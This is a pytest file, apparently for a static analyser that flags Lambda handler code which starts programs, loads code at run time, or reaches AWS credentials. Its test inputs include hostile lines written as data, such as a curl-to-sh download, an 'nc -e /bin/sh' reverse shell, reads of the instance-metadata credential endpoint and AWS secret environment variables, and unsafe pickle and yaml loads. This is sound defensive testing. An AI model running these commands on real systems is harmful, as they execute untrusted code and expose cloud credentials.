"""Programs that a script starts run with the role's credentials: those that may use AWS are reported."""

from __future__ import annotations

from textwrap import indent

import pytest

from tests.unit.scripts import read

IMPORTS = "import asyncio, importlib.util, os, pty, runpy, shlex, subprocess, sys\nfrom subprocess import PIPE, Popen\n"


def told(body: str, imports: str = IMPORTS) -> set[str]:
    calls, findings, _ = read(f"{imports}def handler(events, context):\n{indent(body, '    ')}\n")
    assert not calls
    return findings


@pytest.mark.parametrize(
    "body",
    [
        "subprocess.Popen(['packer', 'build', 'x.json'])",
        "Popen(['terraform', 'apply'], stdout=PIPE)",
        "Popen(events['command'])",
        "Popen([events['program'], '-v'])",
        "words = ['packer', 'build']\nwords.append(events['x'])\nsubprocess.check_output(words)",
        "subprocess.run('cd /tmp && ./tool --go', shell=True)",
        "subprocess.call(f'{events[\"tool\"]} build', shell=True)",
        "subprocess.run(['bash', '-c', 'ls; terraform plan'])",
        "subprocess.run(['bash', 'install.sh'])",
        "subprocess.run(['sudo', '-E', 'kubectl', 'get', 'pods'])",
        "subprocess.run([sys.executable, 'other.py'])",
        "subprocess.run('python3 -c \"import boto3\"', shell=True)",
        "subprocess.run(shlex.split('packer build x'))",
        "subprocess.getoutput('eksctl get cluster')",
        "os.system('terraform apply')",
        "vars(os)['system']('terraform apply')",
        "os.__dict__.get('popen')('terraform apply')",
        "subprocess.run(['ls'], executable='/tmp/terraform')",
        "os.system('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/')",
        "os.system('curl --aws-sigv4 aws:amz:us-east-1:s3 https://b.s3.amazonaws.com/k')",
        "os.system('x=$(aws sts get-caller-identity)')",
        "os.system('ls | xargs packer')",
        "subprocess.run('curl https://example.org/x | sh', shell=True)",
        "subprocess.run('curl https://example.org/x | sudo bash', shell=True)",
        "subprocess.run(['bash'], input=events['x'])",
        "subprocess.run('cat x.py | python3', shell=True)",
        "subprocess.run(['find', '.', '-name', '*.tf', '-exec', 'terraform', 'apply', '{}', ';'])",
        "subprocess.run(['awk', 'BEGIN { system(\"aws s3 ls\") }'])",
        "subprocess.run(['tar', 'xf', 'a.tar', '--to-command=./upload'])",
        "os.popen('helm list')",
        "os.execv('/tmp/tool', ['tool', 'x'])",
        "os.execlp('packer', 'packer', 'build')",
        "os.spawnv(os.P_WAIT, '/tmp/tool', ['tool'])",
        "os.posix_spawn('/tmp/tool', ['tool'], {})",
        "pty.spawn(['packer', 'build'])",
        "asyncio.run(asyncio.create_subprocess_exec('packer', 'build'))",
        "asyncio.run(asyncio.create_subprocess_shell('packer build'))",
        "asyncio.get_event_loop().subprocess_exec(None, 'packer', 'build')",
        "asyncio.get_event_loop().subprocess_shell(None, 'packer build')",
        "asyncio.subprocess.create_subprocess_exec('packer')",
        "import posix\nposix.system('packer build')",
        "os.startfile('setup.exe')",
        "getattr(subprocess, events['x'])(['packer'])",
        "subprocess.Popen.__init__(object.__new__(subprocess.Popen), ['packer'])",
        "class P(Popen): pass\nP(['packer'])",
        "class P(Popen):\n    def __init__(self, words): super().__init__(words)\nP(['packer'])",
        "type('P', (Popen,), {})(['packer'])",
        "subprocess.run('`curl http://x`', shell=True)",
        "os.system('ls; $(which tool) build')",
        "subprocess.run(['sed', '1e ./tool', 'f'])",
        "subprocess.run(['sed', '-i', 's/a/.\\/tool/e', 'f'])",
        "subprocess.run(['nc', '-e', '/bin/sh', 'h', '1'])",
        "subprocess.run(['curl', 'http://instance-data/latest/meta-data/'])",
    ],
)
def test_a_program_that_may_use_aws_is_reported(body: str) -> None:
    assert told(body) == {"otherAwsAccess"}


@pytest.mark.parametrize(
    "body",
    [
        "subprocess.run(['ls', '-l', events['x']])",
        "subprocess.run(['find', '.', '-name', '*.log', '-exec', 'gzip', '{}', ';'])",
        "subprocess.run(['bash', '--version'])",
        "subprocess.run(['awk', '{ print $2 }'])",
        "subprocess.run(['sed', '-e', 's/e/x e/g', 'f'])",
        "subprocess.run('x=`date`; y=$(hostname -f); echo $x', shell=True)",
        "subprocess.run(['nc', '-z', 'host', '80'])",
        "Popen(['df', '-h'], stdout=PIPE, stderr=PIPE)",
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'boto3', '-t', '/tmp/'])",
        "subprocess.run(f'chmod u+x {events[\"x\"]} && mkdir -p /tmp/a', shell=True)",
        "os.system('cat /etc/os-release | grep NAME > /tmp/x 2>&1')",
        "os.system('sudo systemctl restart httpd')",
        "subprocess.run(['timeout', '30', 'ping', '-c', '1', events['host']])",
        "subprocess.run(['sh', '-c', 'for i in 1 2; do echo $i; done'])",
        "os.system('curl -sSf https://example.com/x -o /tmp/x')",
        "subprocess.check_output(shlex.split('blkid {} -s TYPE -o value'.format(events['device'])))",
    ],
)
def test_a_program_that_does_not_use_aws_is_not_reported(body: str) -> None:
    assert told(body) == set()


@pytest.mark.parametrize(
    "body",
    [
        "exec(events['code'])",
        "eval(events['code'])",
        "exec(compile(open('/tmp/x.py').read(), 'x', 'exec'))",
        "runpy.run_path('/tmp/x.py')",
        "importlib.import_module(events['module'])",
        "__import__(events['module']).run()",
        "import marshal, types\ntypes.FunctionType(marshal.loads(events['code']), globals())()",
        "import code\ncode.InteractiveInterpreter().runsource(events['code'])",
        "import ctypes\nctypes.CDLL('/tmp/x.so').run()",
        "import ctypes\nctypes.cdll.LoadLibrary('/tmp/x.so').run()",
        "import ctypes\nctypes.cdll.x.run()",
        "import timeit\ntimeit.timeit('go()', 'from x import go')",
        "import cProfile\ncProfile.run('go()')",
        "import pickle\npickle.loads(events['x'])",
        "import pickle\nwith open('/tmp/x', 'rb') as f:\n    pickle.load(f)",
        "import pickle\npickle.Unpickler(open('/tmp/x', 'rb')).load()",
        "import pandas\npandas.read_pickle('/tmp/x')",
        "import yaml\nyaml.unsafe_load(open('/tmp/x'))",
        "import yaml\nyaml.load(events['x'], Loader=yaml.Loader)",
        "import yaml\nyaml.load(events['x'], yaml.UnsafeLoader)",
        "import unittest\nclass T(unittest.TestCase):\n    def test_x(self):\n        pass\nunittest.main()",
        "import zipimport\nzipimport.zipimporter('/tmp/a.zip').load_module('x').run()",
        "import urllib.request\nexec(urllib.request.urlopen('https://example.com/x.py').read())",
        "spec = importlib.util.spec_from_file_location('x', '/tmp/x.py')\nmodule = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)",
    ],
)
def test_code_that_is_loaded_while_it_runs_is_reported(body: str) -> None:
    assert told(body) == {"otherAwsAccess"}


@pytest.mark.parametrize(
    "body",
    [
        "import pickle\npickle.loads(pickle.dumps(events))",
        "import yaml\nyaml.safe_load(events['x'])",
        "import yaml\nyaml.load(events['x'], Loader=yaml.SafeLoader)",
        "import yaml\nyaml.load('a: 1', Loader=yaml.Loader)",
    ],
)
def test_data_that_can_run_no_other_code_is_not_reported(body: str) -> None:
    assert told(body) == set()


def test_code_that_the_script_writes_with_a_runtime_value_in_it_is_not_readable() -> None:
    assert told("exec(f'x = {events[\"x\"]}')") == {"unreadableScript"}


@pytest.mark.parametrize(
    ("imports", "body"),
    [
        ("import s3fs", "s3fs.S3FileSystem().ls('b')"),
        ("import awswrangler as wr", "wr.s3.read_csv('s3://b/k')"),
        ("from smart_open import open", "open('s3://b/k')"),
        ("import pandas as pd", "pd.read_csv('s3://b/k')"),
        ("import pandas as pd", "pd.read_parquet(f's3://{events[\"b\"]}/k')"),
        ("import pandas as pd", "pd.DataFrame([]).to_csv('s3://b/k')"),
        ("import requests\nfrom requests_aws4auth import AWS4Auth", "requests.get('https://x', auth=AWS4Auth('a', 'b', 'c', 'd'))"),
        ("import urllib.request", "urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read()"),
        ("import requests", "requests.put('http://169.254.169.254/latest/api/token')"),
        ("import os, hmac", "hmac.new(b'AWS4' + os.environ['AWS_SECRET_ACCESS_KEY'].encode(), b'd', 'sha256')"),
        ("import os", "print(os.getenv('AWS_SESSION_TOKEN'))"),
        ("import os", "print(os.environ.copy()['AWS_SESSION_TOKEN'])"),
        ("import os", "print(dict(os.environ)['AWS_SESSION_TOKEN'])"),
        ("import botocore.utils", "botocore.utils.IMDSFetcher()"),
        ("import botocore.credentials", "botocore.credentials.InstanceMetadataProvider(1).load()"),
        ("from botocore.httpsession import URLLib3Session", "URLLib3Session().send(1)"),
        ("import boto3", "boto3.client('s3')._request_signer._credentials.secret_key"),
        ("import boto3", "boto3.client('s3')._endpoint.make_request(1, 2)"),
        ("import boto3", "boto3.Session()._session.get_credentials()"),
        ("import boto3", "boto3.Session()._session.get_component('credential_provider').load_credentials()"),
        ("import boto3", "boto3.client('rds').generate_db_auth_token(DBHostname='h', Port=1, DBUsername='u')"),
        ("import os", "os.environ.update({'AWS_SECRET_ACCESS_KEY': events['k']})"),
        ("import boto3, requests", "requests.get('https://x', headers={'k': boto3.Session().get_credentials().access_key})"),
    ],
)
def test_a_library_that_reaches_aws_by_itself_is_reported(imports: str, body: str) -> None:
    assert told(body, imports + "\n") == {"otherAwsAccess"}


@pytest.mark.parametrize(
    ("imports", "expected"),
    [
        ("from aws_lambda_powertools.utilities.typing import LambdaContext", set()),
        ("from aws_lambda_powertools.logging import Logger\nlog = Logger()", set()),
        ("from aws_lambda_powertools.utilities import parameters", {"otherAwsAccess"}),
        ("from aws_lambda_powertools.utilities.parameters import get_secret", {"otherAwsAccess"}),
    ],
)
def test_of_a_library_that_reaches_aws_some_modules_do_not(imports: str, expected: set[str]) -> None:
    assert told("print(1)", imports + "\n") == expected
